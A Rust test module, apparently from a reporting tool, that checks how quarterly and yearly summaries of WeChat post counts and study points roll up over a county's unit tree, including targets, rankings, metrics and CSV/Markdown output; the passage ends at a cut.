//! Summaries over a real SQLite store, with expectations computed by hand.
//!
//! The tree, configured as county, edu, office, natres: the office before
//! its parent on purpose, to check that rows come in preorder.
//!
//! ```text
//! county 某县 (120)                     ← county-xuexi covers the whole county
//! ├── county/edu 教育局 (40)            ← edu-wechat, which stopped after Q2
//! └── county/natres 自然资源局 (22)     ← natres-wechat covers it and office
//!     └── county/natres/office 办公室 (5)
//! ```
//!
//! The data, by quarter (Asia/Shanghai days):
//!
//! | wechat_posts (count)  | Q2              | Q3                   | Q4         |
//! |-----------------------|-----------------|----------------------|------------|
//! | natres                | 06-30: 4        | 07-15: 10, 09-30: 5  | 10-01: 7   |
//! | office                | 05-01: 2        | 08-01: 3             |            |
//! | edu                   | 04-10: 6        | (none: 未报送)        |            |
//!
//! | xuexi_points (level)  | Q2              | Q3                        | Q4          |
//! |-----------------------|-----------------|---------------------------|-------------|
//! | county, dave          |                 | 08-20: 500                |             |
//! | natres, alice         | 06-30: 900      | 07-31: 1000, 09-30: 2500  | 10-01: 2600 |
//! | office, bob           |                 | 09-29: 1800               |             |
//! | edu, carol            |                 | 09-15: 3000               |             |
//!
//! Targets: xuexi_points 7,000 per entity a year (for every unit);
//! wechat_posts 12 per unit a quarter, for natres and edu only. Per capita
//! is asked for wechat_posts only.
//!
//! A second tree (`ytd_fixture`, below) has points that accumulate over the
//! year, as 学习强国's 本年积分 do.

use std::collections::HashMap;
use std::path::Path;

use chrono::{DateTime, NaiveDate, TimeZone, Utc};

use super::*;
use crate::metrics::{IndicatorText, Metrics, refresh_indicators};
use tally_config::Config;
use tally_domain::{Observation, OwnData};
use tally_store::{RunRecord, RunResult, SqliteStore};

const CONFIG: &str = r#"
[daemon]
timezone = "Asia/Shanghai"

[[units]]
id = "county"
name = "某县"
headcount = 120
[[units]]
id = "county/edu"
name = "教育局"
headcount = 40
[[units]]
id = "county/natres/office"
name = "办公室"
headcount = 5
[[units]]
id = "county/natres"
name = "自然资源局"
headcount = 22

[[indicators]]
id = "wechat_posts"
name = "微信公众号发文数"
kind = "count"
unit = "篇"
per_capita = true
[[indicators]]
id = "xuexi_points"
name = "学习积分"
kind = "level"
unit = "分"

[[targets]]
indicator = "xuexi_points"
per = "entity"
period = "year"
min = 7000
[[targets]]
indicator = "wechat_posts"
per = "unit"
period = "quarter"
min = 12
units = ["county/natres", "county/edu"]

[[sources]]
id = "natres-wechat"
plugin = "wechat"
unit = "county/natres"
schedule = "30 2 * * *"
[[sources]]
id = "edu-wechat"
plugin = "wechat"
unit = "county/edu"
schedule = "30 2 * * *"
[[sources]]
id = "county-xuexi"
plugin = "xuexi"
units = ["county"]
schedule = "0 3 * * *"
[[sources]]
id = "old-weibo"
plugin = "weibo"
unit = "county"
schedule = "0 3 * * *"
enabled = false
"#;

struct Fixture {
    _dir: tempfile::TempDir,
    config: Config,
    tree: UnitTree,
    store: SqliteStore,
    emits: HashMap<String, Vec<String>>,
}

fn d(s: &str) -> NaiveDate {
    s.parse().unwrap()
}

fn at(s: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
}

/// The day an instant falls on in Shanghai: how plugins date what they see.
fn shanghai(s: &str) -> NaiveDate {
    local_day(at(s), chrono_tz::Asia::Shanghai)
}

/// Just after Q3 ended in Shanghai (still 2026-09-30 in UTC).
fn after_q3() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 9, 30, 18, 0, 0).unwrap()
}

fn obs(
    source: &str,
    unit: &str,
    indicator: &str,
    entity: &str,
    day: NaiveDate,
    v: f64,
) -> Observation {
    Observation {
        source: source.into(),
        unit: unit.into(),
        indicator: indicator.into(),
        entity: entity.into(),
        day,
        value: v,
    }
}

fn run(
    store: &SqliteStore,
    source: &str,
    result: RunResult,
    window: (&str, &str),
    finished: &str,
    o: &[Observation],
) {
    let finished = at(finished);
    store
        .record_run(
            &RunRecord {
                source: source.into(),
                trigger: "schedule".into(),
                started_at: finished - chrono::Duration::seconds(4),
                finished_at: finished,
                result,
                error: (result != RunResult::Success).then(|| "boom".into()),
                window_from: d(window.0),
                window_to: d(window.1),
                warnings: vec![],
                http_requests: None,
                uncovered: Vec::new(),
                error_kind: None,
                retry_after: None,
            },
            o,
            None,
        )
        .unwrap();
}

fn fixture() -> Fixture {
    let config = Config::parse(CONFIG, Path::new("t.toml"), &|_| None).unwrap();
    let tree = config.unit_tree().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let store = SqliteStore::open(dir.path()).unwrap();

    let w =
        |unit: &str, day: NaiveDate, v: f64| obs("natres-wechat", unit, "wechat_posts", "", day, v);
    run(
        &store,
        "natres-wechat",
        RunResult::Success,
        ("2026-04-01", "2026-10-01"),
        "2026-09-30T17:30:04Z",
        &[
            w("county/natres", d("2026-06-30"), 4.0),
            w("county/natres", d("2026-07-15"), 10.0),
            // 23:30 and 00:30 in Shanghai, both 2026-09-30 in UTC: the
            // quarter boundary is the local one.
            w("county/natres", shanghai("2026-09-30T23:30:00+08:00"), 5.0),
            w("county/natres", shanghai("2026-10-01T00:30:00+08:00"), 7.0),
            w("county/natres/office", d("2026-05-01"), 2.0),
            w("county/natres/office", d("2026-08-01"), 3.0),
        ],
    );
    run(
        &store,
        "edu-wechat",
        RunResult::Success,
        ("2026-04-01", "2026-06-30"),
        "2026-06-30T18:30:00Z",
        &[obs(
            "edu-wechat",
            "county/edu",
            "wechat_posts",
            "",
            d("2026-04-10"),
            6.0,
        )],
    );
    // The edu account stopped answering in Q3.
    run(
        &store,
        "edu-wechat",
        RunResult::Error,
        ("2026-09-28", "2026-09-30"),
        "2026-09-29T18:30:00Z",
        &[],
    );
    let x = |unit: &str, entity: &str, day: &str, v: f64| {
        obs("county-xuexi", unit, "xuexi_points", entity, d(day), v)
    };
    run(
        &store,
        "county-xuexi",
        RunResult::Success,
        ("2026-04-01", "2026-10-01"),
        "2026-09-30T17:45:00Z",
        &[
            x("county", "dave", "2026-08-20", 500.0),
            x("county/natres", "alice", "2026-06-30", 900.0),
            x("county/natres", "alice", "2026-07-31", 1000.0),
            x("county/natres", "alice", "2026-09-30", 2500.0),
            x("county/natres", "alice", "2026-10-01", 2600.0),
            x("county/natres/office", "bob", "2026-09-29", 1800.0),
            x("county/edu", "carol", "2026-09-15", 3000.0),
        ],
    );

    let emits = [
        ("natres-wechat", "wechat_posts"),
        ("edu-wechat", "wechat_posts"),
        ("county-xuexi", "xuexi_points"),
        ("old-weibo", "wechat_posts"),
    ]
    .into_iter()
    .map(|(s, i)| (s.to_owned(), vec![i.to_owned()]))
    .collect();
    Fixture {
        _dir: dir,
        config,
        tree,
        store,
        emits,
    }
}

impl Fixture {
    fn summary(
        &self,
        period: &str,
        unit: Option<&str>,
        depth: Option<usize>,
        now: DateTime<Utc>,
    ) -> Result<Summary, SummaryError> {
        let req = SummaryRequest {
            period: Period::parse(period).unwrap(),
            unit: unit.map(str::to_owned),
            depth,
        };
        build(
            &self.config,
            &self.tree,
            &self.store,
            &self.emits,
            &req,
            now,
        )
    }

    fn q3(&self) -> Summary {
        self.summary("2026-Q3", None, None, after_q3()).unwrap()
    }
}

fn cell<'a>(s: &'a Summary, unit: &str, indicator: &str) -> &'a IndicatorValue {
    s.units
        .iter()
        .find(|u| u.id == unit)
        .unwrap_or_else(|| panic!("unit {unit} not in the summary"))
        .values
        .get(indicator)
        .unwrap()
}

fn unit_ids(s: &Summary) -> Vec<&str> {
    s.units.iter().map(|u| u.id.as_str()).collect()
}

/// (value, previous, incomplete, missing) of one cell.
fn check(
    s: &Summary,
    unit: &str,
    indicator: &str,
    expected: (Option<f64>, Option<f64>, bool, bool),
) {
    let c = cell(s, unit, indicator);
    assert_eq!(
        (c.value, c.previous, c.incomplete, c.missing),
        expected,
        "{unit} {indicator}"
    );
}

#[test]
fn counts_roll_up_with_the_previous_quarter_and_marks() {
    let f = fixture();
    let s = f.q3();
    // Q3: natres 10 + 5 (09-30 23:30 Shanghai), office 3; edu nothing.
    // Q2: natres 4, office 2, edu 6.
    check(
        &s,
        "county/natres/office",
        "wechat_posts",
        (Some(3.0), Some(2.0), false, false),
    );
    check(
        &s,
        "county/natres",
        "wechat_posts",
        (Some(18.0), Some(6.0), false, false),
    );
    // edu is covered by edu-wechat, which has a gap: missing and incomplete.
    check(
        &s,
        "county/edu",
        "wechat_posts",
        (None, Some(6.0), true, true),
    );
    // The county is covered by no wechat source itself, but edu below is
    // missing, so its total is incomplete; not missing, natres reported.
    check(
        &s,
        "county",
        "wechat_posts",
        (Some(18.0), Some(12.0), true, false),
    );
}

#[test]
fn levels_take_the_last_day_per_entity_and_add_up_units() {
    let f = fixture();
    let s = f.q3();
    // alice's last Q3 day is 09-30 (2500), not 10-01 (2600).
    check(
        &s,
        "county/natres/office",
        "xuexi_points",
        (Some(1800.0), None, false, false),
    );
    check(
        &s,
        "county/natres",
        "xuexi_points",
        (Some(4300.0), Some(900.0), false, false),
    );
    check(
        &s,
        "county/edu",
        "xuexi_points",
        (Some(3000.0), None, false, false),
    );
    // 500 + 4300 + 3000.
    check(
        &s,
        "county",
        "xuexi_points",
        (Some(7800.0), Some(900.0), false, false),
    );
}

#[test]
fn the_previous_period_has_its_own_marks_only_in_its_own_summary() {
    let f = fixture();
    let s = f.summary("2026-Q2", None, None, after_q3()).unwrap();
    assert!(s.period.complete, "{:?}", s.sources);
    check(
        &s,
        "county/edu",
        "wechat_posts",
        (Some(6.0), None, false, false),
    );
    check(
        &s,
        "county",
        "wechat_posts",
        (Some(12.0), None, false, false),
    );
    // In Q2 only alice had points: office and edu are missing (county-xuexi
    // covers them), so natres and the county are incomplete.
    check(
        &s,
        "county/natres/office",
        "xuexi_points",
        (None, None, false, true),
    );
    check(&s, "county/edu", "xuexi_points", (None, None, false, true));
    check(
        &s,
        "county/natres",
        "xuexi_points",
        (Some(900.0), None, true, false),
    );
    check(
        &s,
        "county",
        "xuexi_points",
        (Some(900.0), None, true, false),
    );
}

#[test]
fn the_quarter_boundary_is_in_shanghai_and_a_running_period_is_not_complete() {
    let f = fixture();
    let q3 = f.q3();
    let q4 = f.summary("2026-Q4", None, None, after_q3()).unwrap();
    // 23:30 on 09-30 is Q3, 00:30 on 10-01 is Q4, though both are 09-30 in UTC.
    assert_eq!(cell(&q3, "county/natres", "wechat_posts").value, Some(18.0));
    assert_eq!(cell(&q4, "county/natres", "wechat_posts").value, Some(7.0));
    assert_eq!(
        cell(&q4, "county/natres", "wechat_posts").previous,
        Some(18.0)
    );
    assert_eq!(
        cell(&q4, "county/natres", "xuexi_points").value,
        Some(2600.0)
    );
    assert_eq!(
        cell(&q4, "county/natres", "xuexi_points").previous,
        Some(4300.0)
    );

    assert_eq!(
        (q4.period.label.as_str(), q4.period.start, q4.period.end),
        ("2026-Q4", d("2026-10-01"), d("2026-12-31"))
    );
    // Running: not complete even though natres-wechat and county-xuexi
    // covered everything up to today.
    assert!(!q4.period.complete);
    let complete: Vec<(&str, bool)> = q4
        .sources
        .iter()
        .map(|s| (s.id.as_str(), s.complete))
        .collect();
    assert_eq!(
        complete,
        [
            ("natres-wechat", true),
            ("edu-wechat", false),
            ("county-xuexi", true)
        ]
    );
    // Q3 is over, but edu-wechat has a gap and a failed run in it.
    assert!(!q3.period.complete);
    let edu = &q3.sources[1];
    assert_eq!(
        (edu.id.as_str(), edu.complete, edu.failed_runs),
        ("edu-wechat", false, 1)
    );
    assert_eq!(
        edu.last_success.as_deref(),
        Some("2026-07-01T02:30:00+08:00")
    );
    assert_eq!(q3.generated_at, "2026-10-01T02:00:00+08:00");
}

#[test]
fn a_future_period_marks_nothing() {
    let f = fixture();
    let s = f.summary("2027", None, None, after_q3()).unwrap();
    assert!(!s.period.complete);
    assert!(s.sources.iter().all(|s| s.complete && s.failed_runs == 0));
    assert!(
        s.units
            .iter()
            .flat_map(|u| &u.values.0)
            .all(|(_, c)| c.value.is_none() && !c.missing && !c.incomplete)
    );
    // The previous year is 2026, to date.
    assert_eq!(cell(&s, "county", "wechat_posts").previous, Some(37.0));
}

#[test]
fn per_capita_divides_the_subtrees_value_by_the_subtrees_headcount() {
    let f = fixture();
    let s = f.q3();
    let pc = |unit: &str| cell(&s, unit, "wechat_posts").per_capita;
    // A headcount is the unit's own staff, and the value of a parent is its
    // subtree's, so the parent divides by its subtree's headcounts: natres
    // 18 posts (its 15 and office's 3) over 22 + 5 people; the county 18
    // over 120 + 40 + 22 + 5. edu has no posts, so no per capita.
    assert_eq!(pc("county/natres/office"), Some(3.0 / 5.0));
    assert_eq!(pc("county/natres"), Some(18.0 / 27.0));
    assert_eq!(pc("county"), Some(18.0 / 187.0));
    assert_eq!(pc("county/edu"), None);
    let heads: Vec<(&str, Option<u32>, Option<u32>)> = s
        .units
        .iter()
        .map(|u| (u.id.as_str(), u.headcount, u.subtree_headcount))
        .collect();
    assert_eq!(
        heads,
        [
            ("county", Some(120), Some(187)),
            ("county/edu", Some(40), Some(40)),
            ("county/natres", Some(22), Some(27)),
            ("county/natres/office", Some(5), Some(5)),
        ]
    );
    // Only where the indicator asks for it: points are not per capita.
    assert!(
        s.units
            .iter()
            .all(|u| u.values.get("xuexi_points").unwrap().per_capita.is_none())
    );
}

#[test]
fn units_come_parents_first_down_to_the_depth_asked() {
    let f = fixture();
    let now = after_q3();
    let s = f.q3();
    assert_eq!(
        unit_ids(&s),
        [
            "county",
            "county/edu",
            "county/natres",
            "county/natres/office"
        ]
    );
    let depths: Vec<(usize, Option<&str>)> = s
        .units
        .iter()
        .map(|u| (u.depth, u.parent.as_deref()))
        .collect();
    assert_eq!(
        depths,
        [
            (0, None),
            (1, Some("county")),
            (1, Some("county")),
            (2, Some("county/natres"))
        ]
    );

    let s = f.summary("2026-Q3", None, Some(1), now).unwrap();
    assert_eq!(unit_ids(&s), ["county", "county/edu", "county/natres"]);
    // Depth limits the rows, not the roll-up.
    assert_eq!(cell(&s, "county/natres", "wechat_posts").value, Some(18.0));

    let s = f
        .summary("2026-Q3", Some("county/natres"), None, now)
        .unwrap();
    assert_eq!(unit_ids(&s), ["county/natres", "county/natres/office"]);
    // Depth stays absolute; only the sources behind natres are listed:
    // its own and the county-wide one above it.
    assert_eq!(s.units[0].depth, 1);
    let ids: Vec<&str> = s.sources.iter().map(|s| s.id.as_str()).collect();
    assert_eq!(ids, ["natres-wechat", "county-xuexi"]);
    // Without edu-wechat behind it, Q3 of natres is complete.
    assert!(s.period.complete);

    let s = f
        .summary("2026-Q3", Some("county/natres"), Some(0), now)
        .unwrap();
    assert_eq!(unit_ids(&s), ["county/natres"]);
}

#[test]
fn an_unknown_unit_says_where_to_look() {
    let f = fixture();
    let err = f
        .summary("2026-Q3", Some("county/nope"), None, after_q3())
        .unwrap_err();
    assert!(matches!(err, SummaryError::UnknownUnit(_)));
    assert_eq!(
        err.to_string(),
        "unknown unit \"county/nope\": see /api/v1/units"
    );
}

#[test]
fn refresh_metrics_sets_every_window_to_date_and_drops_stale_series() {
    let f = fixture();
    let metrics = Metrics::new();
    let mut gone = IndicatorText::new();
    gone.indicator_value([("county/gone", "wechat_posts", "day", 1.0)]);
    metrics.set_indicator_families(gone);
    assert!(metrics.encode().contains("county/gone"));
    refresh_indicators(&metrics, &f.config, &f.tree, &f.store, d("2026-10-01")).unwrap();
    let text = metrics.encode();
    let get = |unit: &str, ind: &str, window: &str| {
        let series = format!(
            "tally_indicator_value{{indicator=\"{ind}\",unit=\"{unit}\",window=\"{window}\"}} "
        );
        text.lines()
            .find_map(|l| l.strip_prefix(&series))
            .map(|v| v.parse::<f64>().unwrap())
            .unwrap()
    };
    // Day, month and quarter to date are all just 2026-10-01.
    for window in ["day", "month", "quarter"] {
        assert_eq!(get("county/natres", "wechat_posts", window), 7.0);
        assert_eq!(get("county", "wechat_posts", window), 7.0);
        assert_eq!(get("county", "xuexi_points", window), 2600.0);
    }
    // 2026 to date: posts natres 4+10+5+7 and office 2+3, edu 6;
    // points alice 2600 (10-01), bob 1800, carol 3000, dave 500.
    assert_eq!(get("county/natres", "wechat_posts", "year"), 31.0);
    assert_eq!(get("county", "wechat_posts", "year"), 37.0);
    assert_eq!(get("county/natres", "xuexi_points", "year"), 4400.0);
    assert_eq!(get("county", "xuexi_points", "year"), 7900.0);

    assert!(!text.contains("county/gone"), "{text}");
    // No series for a unit without data in the window.
    assert!(!text.contains(
        r#"tally_indicator_value{indicator="wechat_posts",unit="county/edu",window="day"}"#
    ));
    assert!(
        text.contains(
            r#"tally_indicator_value{indicator="wechat_posts",unit="county/edu",window="year"} 6"#
        ),
        "{text}"
    );
}

#[test]
fn json_snapshot() {
    let f = fixture();
    let json = serde_json::to_string_pretty(&f.q3()).unwrap();
    insta::assert_snapshot!(json);
}

#[test]
fn csv_snapshot() {
    let f = fixture();
    let bytes = to_csv(&f.q3());
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(text.starts_with("单位代码,单位,微信公众号发文数(篇),学习积分(分),"));
    insta::assert_snapshot!(text);
}

#[test]
fn markdown_snapshot() {
    let f = fixture();
    insta::assert_snapshot!(to_markdown(&f.q3()));
}

#[test]
fn numbers_for_people() {
    assert_eq!(format_number(321.0, 2), "321");
    assert_eq!(format_number(0.1 + 0.2, 6), "0.3");
    assert_eq!(format_number(7800.0 / 120.0, 1), "65");
    assert_eq!(format_number(4300.0 / 22.0, 1), "195.5");
    assert_eq!(format_number(-0.0001, 2), "0");
    assert_eq!(
        serde_json::to_string(&IndicatorValue {
            value: Some(321.0),
            previous: Some(2.5),
            ..Default::default()
        })
        .unwrap(),
        r#"{"value":321,"previous":2.5}"#
    );
}

fn target(s: &Summary, unit: &str, indicator: &str) -> Option<TargetStatus> {
    cell(s, unit, indicator).target.clone()
}

fn close(a: f64, b: f64) -> bool {
    (a - b).abs() < 1e-9
}

#[test]
fn a_per_unit_target_gives_completion_only_where_it_applies() {
    let f = fixture();
    let s = f.q3();
    // Q3 is over: the quarterly 12 is whole. natres posted 10 + 5 + office's 3.
    assert_eq!(
        target(&s, "county/natres", "wechat_posts"),
        Some(TargetStatus {
            per: Per::Unit,
            min: 12.0,
            completion: Some(1.5),
            met: None,
            total: None,
            ratio: None,
        })
    );
    // edu has the target but no Q3 value: a minimum, no completion.
    let edu = target(&s, "county/edu", "wechat_posts").unwrap();
    assert_eq!((edu.min, edu.completion), (12.0, None));
    // The target lists natres and edu only: not the county, nor the office below natres.
    assert_eq!(target(&s, "county", "wechat_posts"), None);
    assert_eq!(target(&s, "county/natres/office", "wechat_posts"), None);
}

#[test]
fn a_yearly_per_entity_target_derives_for_the_quarter_and_counts_entities() {
    let f = fixture();
    let s = f.q3();
    // 7000 a year seen in Q3: 7000 × 92 / 365 = 1764.38.
    let min = 7000.0 * 92.0 / 365.0;
    // Entities in Q3 (last day per entity): dave 500 (county), alice 2500
    // (natres), bob 1800 (office), carol 3000 (edu). Only dave is below.
    let expect = |met: u64, total: u64| TargetStatus {
        per: Per::Entity,
        min,
        completion: None,
        met: Some(met),
        total: Some(total),
        ratio: Some(met as f64 / total as f64),
    };
    assert_eq!(target(&s, "county", "xuexi_points"), Some(expect(3, 4)));
    assert_eq!(
        target(&s, "county/natres", "xuexi_points"),
        Some(expect(2, 2))
    );
    assert_eq!(
        target(&s, "county/natres/office", "xuexi_points"),
        Some(expect(1, 1))
    );
    assert_eq!(target(&s, "county/edu", "xuexi_points"), Some(expect(1, 1)));

    // The whole year 2026 asked after it ended: 7000 as set. Year values:
    // alice 2600 (10-01), bob 1800, carol 3000, dave 500: nobody reaches it.
    let y = f
        .summary("2026", None, None, at("2027-01-05T00:00:00Z"))
        .unwrap();
    let t = target(&y, "county", "xuexi_points").unwrap();
    assert_eq!(
        (t.min, t.met, t.total, t.ratio),
        (7000.0, Some(0), Some(4), Some(0.0))
    );
}

#[test]
fn inside_a_running_period_targets_are_prorated_by_elapsed_days() {
    let f = fixture();
    // 2026-08-15 12:00 in Shanghai: day 46 of Q3's 92 (31 of July + 15).
    let s = f
        .summary("2026-Q3", None, None, at("2026-08-15T12:00:00+08:00"))
        .unwrap();
    let posts = target(&s, "county/natres", "wechat_posts").unwrap();
    // 12 × 46 / 92 = 6; the table holds what is stored for the quarter (18).
    assert_eq!(posts.min, 6.0);
    assert_eq!(posts.completion, Some(3.0));
    // 7000 × 92/365 × 46/92 = 882.19: dave (500) is still the only one below.
    let points = target(&s, "county", "xuexi_points").unwrap();
    assert!(close(points.min, 7000.0 * 46.0 / 365.0), "{}", points.min);
    assert_eq!((points.met, points.total), (Some(3), Some(4)));

    // A period that has not begun has no pro-rated target yet.
    let later = f
        .summary("2026-Q4", None, None, at("2026-08-15T12:00:00+08:00"))
        .unwrap();
    assert_eq!(target(&later, "county/natres", "wechat_posts"), None);
}

#[test]
fn change_and_rank_among_siblings() {
    let f = fixture();
    let s = f.q3();
    let c = |unit: &str, ind: &str| {
        let c = cell(&s, unit, ind);
        (c.change, c.change_ratio, c.rank)
    };
    // natres posts 18 against 6 in Q2; county 18 against 12; edu has no value.
    assert_eq!(
        c("county/natres", "wechat_posts"),
        (Some(12.0), Some(2.0), Some(1))
    );
    assert_eq!(c("county", "wechat_posts"), (Some(6.0), Some(0.5), Some(1)));
    assert_eq!(c("county/edu", "wechat_posts"), (None, None, None));
    assert_eq!(
        c("county/natres/office", "wechat_posts"),
        (Some(1.0), Some(0.5), Some(1))
    );
    // Points: natres 4300 (Q2: 900) ranks above edu 3000 (Q2: nothing).
    assert_eq!(
        c("county/natres", "xuexi_points"),
        (Some(3400.0), Some(3400.0 / 900.0), Some(1))
    );
    assert_eq!(c("county/edu", "xuexi_points"), (None, None, Some(2)));
    // A unit shown alone is still ranked among all its siblings.
    let edu = f
        .summary("2026-Q3", Some("county/edu"), Some(0), after_q3())
        .unwrap();
    assert_eq!(cell(&edu, "county/edu", "xuexi_points").rank, Some(2));
}

#[test]
fn ties_share_a_rank_and_units_without_a_value_have_none() {
    let config = Config::parse(
        r#"
[[units]]
id = "r"
name = "R"
[[units]]
id = "r/a"
name = "A"
[[units]]
id = "r/b"
name = "B"
[[units]]
id = "r/c"
name = "C"
[[units]]
id = "r/d"
name = "D"
[[units]]
id = "r/a/x"
name = "X"
[[units]]
id = "q"
name = "Q"
[[indicators]]
id = "n"
name = "N"
kind = "count"
unit = "次"
"#,
        Path::new("t.toml"),
        &|_| None,
    )
    .unwrap();
    let tree = config.unit_tree().unwrap();
    let own = [
        ("r/a/x", 2.0),
        ("r/a", 3.0),
        ("r/b", 5.0),
        ("r/c", 1.0),
        ("q", 9.0),
    ];
    let values = roll_up(
        &tree,
        &[Kind::Count],
        own.iter()
            .map(|(u, v)| (tree.index(u).unwrap(), 0, OwnData::Number(*v))),
    );
    let r = ranks(&tree, &values, 1);
    let rank = |u: &str| r[tree.index(u).unwrap()];
    // a = 3 + 2 = 5 ties with b; c comes third (not second); d has no value.
    assert_eq!(
        ["r/a", "r/b", "r/c", "r/d", "r/a/x"].map(rank),
        [Some(1), Some(1), Some(3), None, Some(1)]
    );
    // Roots are siblings of each other: r = 11 is above q = 9.
    assert_eq!(["r", "q"].map(rank), [Some(1), Some(2)]);
}

#[test]
fn refresh_metrics_sets_target_ratios_for_windows_where_a_target_applies() {
    let f = fixture();
    let metrics = Metrics::new();
    let mut gone = IndicatorText::new();
    gone.target_ratio([("county/gone", "wechat_posts", "day", 1.0)]);
    metrics.set_indicator_families(gone);
    assert!(metrics.encode().contains("county/gone"));
    refresh_indicators(&metrics, &f.config, &f.tree, &f.store, d("2026-10-01")).unwrap();
    let get = |unit: &str, ind: &str, window: &str| {
        let text = metrics.encode();
        let series = format!(
            "tally_target_ratio{{indicator=\"{ind}\",unit=\"{unit}\",window=\"{window}\"}}"
        );
        text.lines()
            .find_map(|l| l.strip_prefix(&series))
            .map(|v| v.trim().parse::<f64>().unwrap())
    };
    // Posts, 12 a quarter, natres: on 10-01 it posted 7. The day and the
    // quarter to date both ask for 12 × 1/92 (Q4 has 92 days).
    let day_min = 12.0 / 92.0;
    for window in ["day", "quarter"] {
        let got = get("county/natres", "wechat_posts", window).unwrap();
        assert!(close(got, 7.0 / day_min), "{window}: {got}");
    }
    // The month: October's share of Q4 (31/92 of 12), pro-rated to 1 of 31 days.
    let got = get("county/natres", "wechat_posts", "month").unwrap();
    assert!(close(got, 7.0 / (12.0 * 31.0 / 92.0 / 31.0)), "{got}");
    // The year: four quarters (48) pro-rated to 274 of 365 days; natres has 31 posts, edu 6.
    let year_min = 48.0 * 274.0 / 365.0;
    let got = get("county/natres", "wechat_posts", "year").unwrap();
    assert!(close(got, 31.0 / year_min), "{got}");
    let got = get("county/edu", "wechat_posts", "year").unwrap();
    assert!(close(got, 6.0 / year_min), "{got}");
    // No target for the county, and none for edu on a day it has no value.
    assert_eq!(get("county", "wechat_posts", "year"), None);
    assert_eq!(get("county/edu", "wechat_posts", "day"), None);

    // Points, 7000 a year: on 10-01 only alice (2600) has a value, above
    // 7000/365; the year to date asks 7000 × 274/365 = 5254.8 and nobody
    // (alice 2600, bob 1800, carol 3000, dave 500) reaches it.
    assert_eq!(get("county", "xuexi_points", "day"), Some(1.0));
    assert_eq!(get("county/natres", "xuexi_points", "day"), Some(1.0));
    assert_eq!(get("county/natres/office", "xuexi_points", "day"), None);
    assert_eq!(get("county", "xuexi_points", "year"), Some(0.0));
    assert_eq!(
        get("county/natres/office", "xuexi_points", "year"),
        Some(0.0)
    );
    assert!(!metrics.encode().contains("county/gone"));
}

#[test]
fn explain_lists_the_observations_behind_a_figure_with_their_runs() {
    let f = fixture();
    let req = ExplainRequest {
        period: Period::parse("2026-Q3").unwrap(),
        unit: "county/natres".into(),
        indicator: "xuexi_points".into(),
    };
    let e = explain(&f.config, &f.tree, &f.store, &req).unwrap();
    let rows: Vec<(&str, &str, &str, String, f64)> = e
        .observations
        .iter()
        .map(|o| {
            (
                o.source.as_str(),
                o.unit.as_str(),
                o.entity.as_str(),
                o.day.to_string(),
                o.value,
            )
        })
        .collect();
    // The subtree (natres, then office), Q3 only: not alice's 06-30 nor 10-01.
    assert_eq!(
        rows,
        [
            (
                "county-xuexi",
                "county/natres",
                "alice",
                "2026-07-31".into(),
                1000.0
            ),
            (
                "county-xuexi",
                "county/natres",
                "alice",
                "2026-09-30".into(),
                2500.0
            ),
            (
                "county-xuexi",
                "county/natres/office",
                "bob",
                "2026-09-29".into(),
                1800.0
            ),
        ]
    );
    // The fourth run recorded; started 4 s before it finished at 17:45:00Z.
    let run = &e.observations[0].run;
    assert_eq!(run.id, 4);
    assert_eq!(run.trigger.as_deref(), Some("schedule"));
    assert_eq!(run.started_at.as_deref(), Some("2026-10-01T01:44:56+08:00"));
    let table = e.to_table();
    assert!(
        table.starts_with("xuexi_points county/natres 2026-Q3 (level), 3 observations\n"),
        "{table}"
    );
    assert!(
        table.contains("county-xuexi  county/natres/office  bob"),
        "{table}"
    );

    let bad = ExplainRequest {
        indicator: "nope".into(),
        ..req.clone()
    };
    let err = explain(&f.config, &f.tree, &f.store, &bad).unwrap_err();
    assert!(err.is_user_error());
    assert_eq!(
        err.to_string(),
        "unknown indicator \"nope\": see /api/v1/indicators"
    );
    let bad = ExplainRequest {
        unit: "county/nope".into(),
        ..req
    };
    assert!(matches!(
        explain(&f.config, &f.tree, &f.store, &bad),
        Err(ExplainError::UnknownUnit(_))
    ));
}

#[test]
fn completeness_of_sources_and_of_units_is_stated_apart() {
    let f = fixture();
    // Q3: edu-wechat has a gap and edu did not post: neither is complete.
    let q3 = f.q3();
    let p = &q3.period;
    assert_eq!(
        (p.ended, p.sources_complete, p.units_complete, p.complete),
        (true, false, false, false)
    );
    // The county's posts lack edu's (未报送) and edu-wechat's days: both reasons.
    let county = cell(&q3, "county", "wechat_posts");
    assert_eq!(
        county.incomplete_because,
        Some(Because::SourcesAndUnits),
        "{county:?}"
    );
    assert_eq!(
        county.mark(),
        Some("数据不完整（来源缺数，下级单位未报送）")
    );
    // edu itself: 未报送 (its own source's gap is also behind it).
    let edu = cell(&q3, "county/edu", "wechat_posts");
    assert_eq!(
        (edu.mark(), edu.incomplete_because),
        (Some("未报送"), Some(Because::Sources))
    );
    // Q2: every source collected every day, so the period is complete; yet
    // office and edu have no points (未报送), and natres' are incomplete for
    // that reason only: the case the old single status line hid.
    let q2 = f.summary("2026-Q2", None, None, after_q3()).unwrap();
    let p = &q2.period;
    assert_eq!(
        (p.ended, p.sources_complete, p.units_complete, p.complete),
        (true, true, false, true)
    );
    let natres = cell(&q2, "county/natres", "xuexi_points");
    assert_eq!(natres.incomplete_because, Some(Because::Units));
    assert_eq!(natres.mark(), Some("数据不完整（下级单位未报送）"));
    let text = String::from_utf8(to_csv(&q2)[3..].to_vec()).unwrap();
    let row = text
        .lines()
        .find(|l| l.starts_with("county/natres,"))
        .unwrap();
    assert!(
        row.ends_with(",学习积分: 数据不完整（下级单位未报送）"),
        "{row}"
    );
    let md = to_markdown(&q2);
    assert!(
        md.contains("数据来源完整：3 个数据源在本期每一天都已采集，没有失败。  \n报送单位不完整：教育局、办公室 有指标未报送（—），其上级的合计标 †。"),
        "{md}"
    );
    assert!(md.contains("| 900† |"), "{md}");
    // Q3 of natres alone: nothing missing below it either.
    let natres = f
        .summary("2026-Q3", Some("county/natres"), None, after_q3())
        .unwrap();
    assert!(natres.period.units_complete && natres.period.complete);
}

/// Points that accumulate over the year (本年积分), 7,000 a member a year;
/// posts asked per capita. Headcounts: a 3, x 2; the county and b have none.
///
/// ```text
/// county                 posts 10
/// ├── county/a (3)       posts 6    m1
/// │   └── county/a/x (2) posts 4    m2, m4
/// └── county/b           posts 8    m3
/// ```
///
